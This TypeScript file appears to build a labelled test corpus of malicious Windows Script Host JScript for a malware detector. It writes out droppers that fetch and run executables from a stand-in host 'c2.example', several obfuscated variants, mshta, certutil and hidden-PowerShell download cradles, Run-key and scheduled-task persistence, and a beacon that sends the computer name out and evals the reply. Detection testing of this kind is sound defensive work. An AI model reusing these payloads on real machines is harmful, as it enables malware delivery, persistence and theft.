// JScript as Windows Script Host runs it: droppers in the disguises of the field.
import * as disguise from './disguise-javascript.ts'
import type { HarmfulScript } from './script-case.ts'

const C2 = 'http://c2.example/'

/** Fetch, save, start: what most script droppers do. */
const dropper = (name: string): string =>
  `var h=new ActiveXObject("MSXML2.XMLHTTP");h.open("GET","${C2}${name}.bin",false);h.send();if(h.status==200){var s=new ActiveXObject("ADODB.Stream");s.Open();s.Type=1;s.Write(h.responseBody);var p=new ActiveXObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%")+"\\\\${name}.exe";s.SaveToFile(p,2);s.Close();new ActiveXObject("WScript.Shell").Run(p,0,false);}`

const DROPPED = { ids: ['trace_downloads_and_runs'], attack: ['T1105'] } as const
const dropped = (name: string) => ({
  ...DROPPED,
  urls: [`${C2}${name}.bin`],
  files: [`\\temp\\${name}.exe`],
  commands: [`\\temp\\${name}.exe`],
})

const disguised: readonly HarmfulScript[] = Object.entries({
  packed: disguise.packedWords,
  'dollar names': disguise.dollarNames,
  emoticons: disguise.emoticons,
  'added key': disguise.addedKey,
  'exclusive or with a word': (code: string) => disguise.xored(code, 'Kq7vT'),
  reversed: disguise.reversed,
  'percent encoded': disguise.percentEncoded,
  'in rubbish': disguise.inRubbish,
  'two layers': (code: string) => disguise.addedKey(disguise.percentEncoded(code), 11),
  'four layers': (code: string) =>
    disguise.reversed(disguise.inRubbish(disguise.xored(disguise.packedWords(code), 'xyz'))),
}).map(([name, hide], at) => ({
  name: `dropper, ${name}`,
  file: `Invoice_${at}.js`,
  source: hide(dropper(`p${at}`)),
  ...dropped(`p${at}`),
}))

export const harmfulJScript: readonly HarmfulScript[] = [
  { name: 'dropper in the open', file: 'scan.js', source: dropper('open'), ...dropped('open') },
  ...disguised,
  {
    name: 'dropper of six characters',
    file: 'order.js',
    source: disguise.sixCharacters('new ActiveXObject("WScript.Shell").Run("mshta http://c2.example/a.hta")'),
    ids: ['trace_abuses_system_tool'],
    attack: ['T1218.005'],
    commands: ['mshta http://c2.example/a.hta'],
  },
  {
    name: 'dropper, rotated strings',
    file: 'statement.js',
    source: disguise.rotatedStrings(
      (s) =>
        `var w=this['WScript'],x=w[${s('CreateObject')}](${s('MSXML2.XMLHTTP')});x[${s('open')}](${s('GET')},${s(`${C2}rot.bin`)},false);x[${s('send')}]();var d=w[${s('CreateObject')}](${s('ADODB.Stream')});d[${s('Open')}]();d[${s('Type')}]=1;d[${s('Write')}](x[${s('responseBody')}]);var p=w[${s('CreateObject')}](${s('Scripting.FileSystemObject')})[${s('GetSpecialFolder')}](2)+${s('\\\\rot.exe').replaceAll('\\\\\\\\', '\\\\')};d[${s('SaveToFile')}](p,2);w[${s('CreateObject')}](${s('WScript.Shell')})[${s('Run')}](p,0);`,
    ),
    ids: ['trace_downloads_and_runs'],
    urls: [`${C2}rot.bin`],
    commands: ['rot.exe'],
  },
  {
    name: 'dropper, steps in a switch',
    file: 'quote.js',
    source: disguise.flattened([
      'var sh=new ActiveXObject("WScript.Shell")',
      `var c="power"+"shell -nop -w hidden -c \\"IEX(New-Object Net.WebClient).DownloadString('${C2}sw.ps1')\\""`,
      'sh.Run(c,0,false)',
    ]),
    ids: ['trace_hides_powershell', 'trace_downloads_and_runs', 'trace_script_starts_shell'],
    attack: ['T1059.001'],
    urls: [`${C2}sw.ps1`],
    commands: ['powershell -nop -w hidden'],
  },
  {
    name: 'a Run key, a copy of itself, a sleep before',
    file: 'update.js',
    source: `WScript.Sleep(120000);var f=new ActiveXObject("Scripting.FileSystemObject"),s=new ActiveXObject("WScript.Shell");var t=s.ExpandEnvironmentStrings("%APPDATA%")+"\\\\wupd.js";f.CopyFile(WScript.ScriptFullName,t);s.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\wupd","wscript.exe //B \\""+t+"\\"","REG_SZ");var h=new ActiveXObject("WinHttp.WinHttpRequest.5.1");h.Open("POST","${C2}gate",false);h.Send(new ActiveXObject("WScript.Network").ComputerName);eval(h.ResponseText);`,
    ids: ['trace_sets_run_key', 'trace_sends_data_out'],
    attack: ['T1547.001'],
    urls: [`${C2}gate`],
    files: ['\\wupd.js'],
    registry: ['\\run\\wupd'],
  },
  {
    name: 'only after a day',
    file: 'later.js',
    source: `var d=new Date();if(d.getTime()>new Date(2026,2,20).getTime()){${dropper('late')}}`,
    ...dropped('late'),
  },
  {
    name: 'only where German is spoken',
    file: 'rechnung.js',
    source: `var l=new ActiveXObject("WScript.Shell").RegRead("HKCU\\\\Control Panel\\\\International\\\\LocaleName");if(l.indexOf("de")===0){${dropper('de')}}`,
    ...dropped('de'),
  },
  {
    name: 'only with an argument',
    file: 'arg.js',
    source: `if(WScript.Arguments.length>0){${dropper('arg')}}`,
    ...dropped('arg'),
  },
  {
    name: 'a program carried in base64 and started by WMI',
    file: 'parcel.js',
    source: `var x=new ActiveXObject("Microsoft.XMLDOM"),e=x.createElement("t");e.dataType="bin.base64";e.text="${Buffer.from(`MZ${'\0'.repeat(200)}This program is harmless`).toString('base64')}";var s=new ActiveXObject("ADODB.Stream");s.Type=1;s.Open();s.Write(e.nodeTypedValue);var p="C:\\\\Users\\\\Public\\\\svc.exe";s.SaveToFile(p,2);GetObject("winmgmts:\\\\\\\\.\\\\root\\\\cimv2:Win32_Process").Create(p,null,null,0);`,
    ids: ['trace_runs_dropped_program', 'trace_starts_process_indirectly'],
    files: ['\\public\\svc.exe'],
    commands: ['svc.exe'],
  },
  {
    name: 'a task through the scheduler and itself away',
    file: 'sched.js',
    source: `var s=new ActiveXObject("WScript.Shell");s.Run('cmd /c schtasks /create /f /sc minute /mo 30 /tn "OneDrive Sync" /tr "wscript.exe C:\\\\ProgramData\\\\od.js"',0,true);var f=new ActiveXObject("Scripting.FileSystemObject");f.CopyFile(WScript.ScriptFullName,"C:\\\\ProgramData\\\\od.js");f.DeleteFile(WScript.ScriptFullName);`,
    ids: ['trace_schedules_task', 'trace_deletes_itself'],
    attack: ['T1053.005', 'T1070.004'],
    commands: ['schtasks /create'],
    files: ['programdata\\od.js'],
  },
  {
    name: 'conditional compilation and try in every line',
    file: 'cc.js',
    source: `/*@cc_on @*/\n/*@if (@_win32)\n${dropper('cc').replaceAll(';', ';\n')}\n@end @*/`,
    ...dropped('cc'),
  },
  {
    name: 'methods by computed names, an array that joins',
    file: 'names.js',
    source: `var a=["Sc","ript","WS","hell",".","Run"];var W=this[a[2]+"c"+"r"+"ipt"];var o=W["Create"+"Object"](a[2]+"cript"+a[4]+"S"+a[3]);o[a[5]](["cer","tutil"].join("")+" -urlcache -f ${C2}c.txt %TEMP%\\\\c.exe",0,true);o[a[5]]("%TEMP%\\\\c.exe",0);`,
    ids: ['trace_abuses_system_tool'],
    commands: ['certutil -urlcache', '\\temp\\c.exe'],
  },
  {
    name: 'Windows script file with a job of JScript',
    file: 'fax.wsf',
    source: `<?xml version="1.0" ?><package><job id="r"><script language="JScript"><![CDATA[${dropper('wsf')}]]></script></job></package>`,
    ...dropped('wsf'),
  },
  {
    name: 'HTML application',
    file: 'fax.hta',
    source: `<html><head><hta:application id="o" windowstate="minimize" showintaskbar="no"><script language="javascript">${dropper('hta')}window.close();</script></head><body></body></html>`,
    ...dropped('hta'),
  },
  {
    name: 'HTML application whose text is escaped',
    file: 'view.hta',
    source: `<script>document.write(unescape("${[...`<script>new ActiveXObject("WScript.Shell").Run("powershell -w hidden -ep bypass -c iwr ${C2}h.exe -OutFile $env:TEMP\\\\h.exe; Start-Process $env:TEMP\\\\h.exe",0)</script>`].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}"))</script>`,
    ids: ['trace_hides_powershell', 'trace_downloads_and_runs'],
    urls: [`${C2}h.exe`],
    commands: ['powershell -w hidden'],
  },
]
